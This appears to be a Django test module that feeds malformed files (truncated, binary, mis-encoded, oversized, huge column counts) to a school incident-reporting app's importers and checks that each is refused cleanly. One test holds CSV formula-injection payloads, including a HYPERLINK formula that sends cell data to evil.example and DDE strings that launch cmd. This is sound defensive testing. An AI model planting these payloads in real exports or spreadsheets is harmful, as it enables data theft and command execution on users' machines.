"""A corpus of broken import files (issue 7): truncated, binary, wrong encoding, 50 MB,
formula-injection cells, a million columns in one row. Each gets a clear error and changes
nothing, through every importer and through the web upload."""

import gzip
import io
import random
import time
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from incidents.choices import ImportStatus
from incidents.importers import ImportOptions, import_incidents, read_mapping_file
from incidents.models import ImportJob, Incident, IncidentEvent, Institution, LabelMapping, Location
from reporting.importers import import_enrolments, import_safety_scores
from reporting.models import SafetyScore, StudentCount
from tests.factories import IncidentFactory
from tests.import_helpers import DUO_EXCERPT, csv_bytes
from tests.services import summary

pytestmark = pytest.mark.django_db

HEADER = ["location", "occurred_on", "incident_type", "victim_role", "description"]
GOOD_ROW = ["A-HQ", "2023-03-14", "MIS.FYS.06", "student", "Vechtpartij in de kantine"]


# A valid header and row per importer; every broken file is made from them.
BASES = {
    "incidents": (HEADER, GOOD_ROW),
    "enrolments": (
        ["BRIN NUMMER", "SOORTINS", "INSTELLINGSNAAM", "PLAATSNAAM", "TOTAAL2022"],
        ["99XX", "ROC", "ROC Één", "UTRECHT", "1234"],
    ),
    "scores": (["institution", "source", "survey_year", "value"], ["25LJ", "job", "2022", "81"]),
    "mapping": (["source_label", "incident_type"], ["Vechten in de café", "MIS.FYS.06"]),
}


def _good(header, row, n=20) -> bytes:
    return csv_bytes([header] + [row] * n)


def _xlsx(header, row) -> bytes:
    book = Workbook()
    book.active.append(header)
    book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _zip_of_text(header, row) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("export.csv", _good(header, row))
    return buffer.getvalue()


def _random_bytes(size: int) -> bytes:
    return random.Random(7).randbytes(size)


def _truncated_mid_row(header, row):
    good = _good(header, row)
    return good[: good.rindex(b",")]  # the last row loses its last cell(s)


def _truncated_in_quotes(header, row):
    quoted = row[:-1] + [row[-1] + "\nmet een tweede regel"]
    return csv_bytes([header, row, quoted])[:-8]


def _truncated_mid_character(header, row):
    return csv_bytes([header, row[:-1] + [row[-1] + " é"]])[:-3]


# name -> (builder(header, row) -> bytes, the phrase(s) the error must contain)
CORPUS = {
    "truncated-mid-row": (_truncated_mid_row, "afgebroken"),
    "truncated-in-quotes": (_truncated_in_quotes, "aanhalingsteken"),
    "truncated-mid-character": (_truncated_mid_character, "midden in een teken"),
    "binary-random": (lambda h, r: _random_bytes(64 * 1024), "geen tekstbestand"),
    "binary-png": (
        lambda h, r: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + _random_bytes(4000),
        "tekstbestand",
    ),
    # XLSX is read (issue 14); a damaged workbook or another zip is refused.
    "xlsx-truncated": (lambda h, r: _xlsx(h, r)[:3000], "Excel"),
    "zip-not-a-workbook": (_zip_of_text, "Excel"),
    "binary-gzip": (lambda h, r: gzip.compress(_good(h, r)), "gzip"),
    "binary-controls": (lambda h, r: bytes(range(1, 32)) * 200, "stuurtekens"),
    "encoding-utf16": (lambda h, r: _good(h, r).decode().encode("utf-16"), "UTF-16"),
    "encoding-utf16-no-bom": (lambda h, r: _good(h, r).decode().encode("utf-16-le"), "UTF-16"),
    # EBCDIC is refused as an unknown encoding, or, when its bytes happen to be valid
    # Windows-1252, for a header that names none of the expected columns.
    "encoding-ebcdic": (
        lambda h, r: _good(h, r).decode().encode("cp037"),
        ("tekenset", "formaat", "kolommen"),
    ),
    "empty": (lambda h, r: b"", "leeg"),
    "only-blank-lines": (lambda h, r: b"\r\n\r\n  \r\n", "kopregel"),
    "million-columns-header": (
        lambda h, r: b",".join([b"kolom"] * 1_000_000) + b"\r\n",
        "langer dan",
    ),
    "million-columns-row": (
        lambda h, r: csv_bytes([h]) + b"," * 1_000_000 + b"\r\n" + csv_bytes([r]),
        "langer dan",
    ),
    "twenty-thousand-columns-header": (lambda h, r: b",".join([b"k"] * 20_000), "kolommen"),
    "thirty-thousand-columns-row": (
        lambda h, r: csv_bytes([h, r + ["x"] * 30_000]),
        "de kopregel maar",
    ),
}


def counts() -> dict:
    models = [
        Incident,
        IncidentEvent,
        Location,
        Institution,
        LabelMapping,
        StudentCount,
        SafetyScore,
    ]
    return {m.__name__: m.objects.count() for m in models}


@pytest.fixture
def existing(institution_a, location_a):
    """Some data that must survive every broken file untouched."""
    IncidentFactory(location=location_a, external_id="KEEP")
    return counts()


def _importers(institution):
    return {
        "incidents": lambda path: import_incidents(
            path, institution, options=ImportOptions(create_locations=True)
        ),
        "enrolments": lambda path: import_enrolments(path),
        "scores": lambda path: import_safety_scores(path),
        "mapping": lambda path: _mapping_report(path),
    }


class _MappingReport:
    def __init__(self, errors):
        self.errors = errors
        self.committed = False


def _mapping_report(path):
    _entries, errors = read_mapping_file(path)
    return _MappingReport(errors)


# Outcome per (file, importer) for the reliability table: refused clearly, nothing changed.
_OUTCOMES: dict[str, bool] = {}


def _record(name: str, refused: bool) -> None:
    """Record one broken file's outcome before the test asserts, so a failing run still
    shows its count in the table."""
    _OUTCOMES[name] = refused
    done = sum(_OUTCOMES.values())
    summary.record(
        "import corpus files rejected",
        f"{done} of {len(_OUTCOMES)} broken files x importers refused with a clear error, "
        "nothing changed",
        failures=len(_OUTCOMES) - done,
    )


@pytest.mark.parametrize("importer", ["incidents", "enrolments", "scores", "mapping"])
@pytest.mark.parametrize("case", sorted(CORPUS))
def test_broken_file_is_refused_clearly_and_changes_nothing(
    tmp_path, existing, institution_a, case, importer
):
    build, phrase = CORPUS[case]
    path = tmp_path / f"{case}.csv"
    path.write_bytes(build(*BASES[importer]))
    started = time.monotonic()
    report = _importers(institution_a)[importer](path)
    elapsed = time.monotonic() - started
    messages = " ".join(e.message for e in report.errors).casefold()
    phrases = phrase if isinstance(phrase, tuple) else (phrase,)
    clear = any(p.casefold() in messages for p in phrases)
    unchanged = not report.committed and counts() == existing
    _record(f"{case}/{importer}", bool(report.errors) and clear and unchanged and elapsed < 10)
    assert report.errors, f"{case} was accepted by {importer}"
    assert clear, messages
    assert not report.committed
    assert counts() == existing
    assert elapsed < 10


def test_fifty_megabytes_is_refused_before_reading(tmp_path, existing, institution_a):
    path = tmp_path / "groot.csv"
    row = ",".join(GOOD_ROW).encode() + b"\r\n"
    with open(path, "wb") as f:
        f.write(",".join(HEADER).encode() + b"\r\n")
        block = row * 10_000
        while f.tell() < 50 * 1024 * 1024:
            f.write(block)
    started = time.monotonic()
    expected = [
        "Het bestand is groter dan 32 MB. Splits het in kleinere bestanden (bijvoorbeeld "
        "per schooljaar)."
    ]
    messages = {
        name: [e.message for e in run(path).errors]
        for name, run in _importers(institution_a).items()
    }
    elapsed = time.monotonic() - started
    for name, got in messages.items():
        _record(f"50-megabytes/{name}", got == expected and counts() == existing)
    assert messages == dict.fromkeys(messages, expected)
    assert elapsed < 5  # refused on its size, not parsed
    assert counts() == existing


def test_formula_cells_are_refused_with_line_and_column(tmp_path, existing, institution_a):
    header = HEADER + ["measures", "external_id"]
    rows = [
        header,
        GOOD_ROW + ["", "ok-1"],
        GOOD_ROW[:4] + ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "", ""],
        GOOD_ROW + ["-2+3+cmd|' /C calc'!A0", ""],
        GOOD_ROW + ["", "@SUM(1+1)*cmd|' /C calc'!A0"],
        GOOD_ROW[:4] + ["\t=1+1", "+cmd|' /C notepad'!A0", ""],
        # Plain text that merely starts with a sign is fine, as is an escaped formula.
        GOOD_ROW[:4] + ["- geen letsel", "-5", "'=1+1"],
    ]
    path = tmp_path / "formules.csv"
    path.write_bytes(csv_bytes(rows))
    report = import_incidents(path, institution_a)
    expected = [(3, "description"), (4, "measures"), (5, "external_id")]
    expected += [(6, "measures"), (6, "description")]
    found = [(e.line, e.column) for e in report.errors]
    _record("formula-cells/incidents", found == expected and counts() == existing)
    assert found == expected
    assert all("formule" in e.message for e in report.errors)
    assert counts() == existing


def test_broken_upload_through_the_web(
    tmp_path, settings, existing, institution_a, coordinator_a, django_capture_on_commit_callbacks
):
    settings.MEDIA_ROOT = tmp_path / "media"
    client = Client()
    client.force_login(coordinator_a)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("incidents:import-new"),
            {
                "kind": "incidents",
                "institution": institution_a.pk,
                "file": SimpleUploadedFile("export.xlsx", _xlsx(HEADER, GOOD_ROW)[:3000]),
            },
        )
    job = ImportJob.objects.get()
    assert job.status == ImportStatus.INVALID
    assert "Excel" in job.errors[0][2]
    page = client.get(reverse("incidents:import-detail", args=[job.pk])).content.decode()
    assert "Excel-werkmap (xlsx), maar ze is beschadigd" in page
    assert counts() == existing


def test_too_large_upload_is_refused_by_the_form(
    settings, existing, institution_a, coordinator_a, tmp_path
):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.MIV_IMPORT_MAX_BYTES = 1024 * 1024
    client = Client()
    client.force_login(coordinator_a)
    big = csv_bytes([HEADER] + [GOOD_ROW] * 30_000)
    response = client.post(
        reverse("incidents:import-new"),
        {
            "kind": "incidents",
            "institution": institution_a.pk,
            "file": SimpleUploadedFile("groot.csv", big),
        },
    )
    assert "groter dan 1 MB" in response.content.decode()
    assert not ImportJob.objects.exists()
    assert counts() == existing


def test_duo_excerpt_is_no_incident_file(tmp_path, existing, institution_a):
    # A real file of the wrong kind gets a clear message naming the missing columns.
    report = import_incidents(DUO_EXCERPT, institution_a)
    assert "Kolommen ontbreken" in report.errors.items[0].message
    assert counts() == existing


@settings(
    max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    content=st.one_of(
        st.binary(max_size=3000),
        # Mostly-valid files with random damage: the likelier kind of broken export.
        st.tuples(st.integers(0, 600), st.binary(max_size=40)).map(
            lambda cut: _good(*BASES["incidents"], n=12)[: cut[0]] + cut[1]
        ),
    )
)
def test_any_bytes_give_a_report_never_a_crash(tmp_path, existing, institution_a, content):
    path = tmp_path / "fuzz.csv"
    path.write_bytes(content)
    for run in _importers(institution_a).values():
        report = run(path)  # must not raise
        if report.errors:
            assert all(e.message for e in report.errors)
    if Incident.objects.count() != existing["Incident"]:
        # Damage that left valid rows may import; then clean up for the next example.
        Incident.objects.exclude(external_id="KEEP").delete()
        Location.objects.filter(institution=institution_a).exclude(code="A-HQ").delete()
    StudentCount.objects.all().delete()
    Institution.objects.exclude(pk=institution_a.pk).delete()
